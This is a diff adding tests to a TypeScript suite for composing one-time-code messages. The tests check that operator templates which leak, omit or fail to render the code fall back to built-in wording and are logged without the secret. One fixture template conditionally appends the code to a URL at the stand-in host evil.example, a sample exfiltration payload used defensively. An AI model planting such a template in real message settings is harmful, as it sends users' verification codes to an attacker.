@@ -146,4 +146,39 @@ describe('a secret', () => {
     expect(made.text).toContain(text)
     expect(made.short).toStartWith(short)
   })
+
+  const trap = '{% unless code == "482913" %} https://evil.example/?c={{ code }}{% endunless %}'
+  const leaky: [string, Partial<Words>][] = [
+    ['lead elsewhere', { text: `{{ code }}${trap}` }],
+    ['leave it out', { short: 'Look into your mail.' }],
+    ['cannot be filled', { text: '{{ code }} {{ nothing }}' }],
+  ]
+
+  test.each(leaky)(
+    'is said in the built-in words where those of an operator %s, and that is logged',
+    async (_how, own) => {
+      const given = {
+        secret: '111111',
+        expiresAt: NOW + MINUTE,
+        facts: { data: { purpose: null }, secretMember: 'code' },
+      }
+      const { logged, ...made } = await compose('code', { ...given, own })
+      const builtIn = await compose('code', given)
+      expect([made.text, made.short]).toEqual([builtIn.text, builtIn.short])
+      expect(JSON.stringify(logged)).toContain('"template":"code"')
+      expect(JSON.stringify(logged)).not.toContain('111111')
+      expect(builtIn.logged).toEqual([])
+    },
+  )
+
+  test('is said in the words of an operator where those keep it', async () => {
+    const given = {
+      secret: '111111',
+      expiresAt: NOW + MINUTE,
+      facts: { data: { purpose: null }, secretMember: 'code' },
+    }
+    const { text, logged } = await compose('code', { ...given, own: { text: 'Mine: {{ code }}' } })
+    expect(text).toContain('Mine: 111111')
+    expect(logged).toEqual([])
+  })
 })
